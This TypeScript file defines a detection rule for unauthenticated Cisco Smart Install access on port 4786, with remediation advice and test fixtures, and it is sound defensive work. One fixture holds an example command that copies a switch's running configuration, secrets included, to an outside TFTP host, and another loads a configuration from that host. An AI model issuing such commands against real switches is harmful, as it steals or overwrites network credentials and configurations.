import { defineRule } from '#model/rule'

const asked = (
  name: string,
  code: string,
  verb: 'execute' | 'identify' | 'configure' | 'report',
  object?: string,
) =>
  ({
    protocol: 'smart-install',
    serverPort: 4786,
    fact: { kind: 'operation', verb, name, code, object, outcome: 'requested' },
  }) as const
const commands = asked('Run commands', '8', 'execute', 'copy system:running-config tftp://10.0.0.66/x')
const version = asked('Ask version', '4', 'identify')
const configuration = asked('Load configuration', '3', 'configure', 'tftp://10.0.0.66/my.conf')

const reported = asked('Report 3', '3', 'report')

export const rule = defineRule({
  id: 'cisco-smart-install',
  formerIds: ['switch-set-up-remotely'],
  engine: 'malware',
  title: 'Cisco Smart Install access',
  category: 'Suspicion of Malicious Activity',
  severity: 'critical',
  techniques: ['T0866', 'T0889'],
  defenderTitles: ['Suspicion of Malicious Activity'],
  learnable: true,
  whileLearning: 'alert',
  why: 'Smart Install requires no password: a client can read the switch configuration with its secrets, or replace it. Network equipment of power plants was attacked this way.',
  todo: [
    'Check the TFTP transfers of the switch right afterwards, and their target',
    'Compare its configuration with the backup, and change all secrets in it',
    'Disable Smart Install (no vstack), or block port 4786',
  ],
  falsePositives: 'A Smart Install director that configures new switches; learn it.',
  match: { kind: 'operation', protocols: ['smart-install'], outcomes: ['requested'] },
  evaluate({ fact }, context) {
    if (fact.verb === 'report' || (!context.isLearning && context.isUsual())) return undefined
    const isQuestion = fact.verb === 'identify'
    const what = `${fact.name}${fact.object === undefined ? '' : `: ${fact.object}`}`
    return {
      // A director loads configurations as well; only an attacker makes a switch run commands.
      severity: isQuestion ? 'minor' : fact.verb === 'execute' ? undefined : 'major',
      techniques: isQuestion ? ['T0888'] : undefined,
      summary: `${context.nameOf('client')} ${isQuestion ? 'tests whether' : 'configures'} the switch ${context.nameOf('server')}${isQuestion ? ' can be configured without a password' : ' without a password'} (Smart Install, ${what})`,
      subject: isQuestion ? 'question' : 'order',
    }
  },
  examples: {
    fires: [
      { when: 'commands are run', facts: [commands] },
      { when: 'a configuration is loaded', facts: [configuration], severity: 'major' },
      { when: 'a client tests whether it is possible', facts: [version], severity: 'minor' },
    ],
    silent: [
      { when: 'a director does as usual', learned: [configuration], facts: [configuration] },
      { when: 'a switch reports to its director', facts: [reported] },
    ],
  },
})
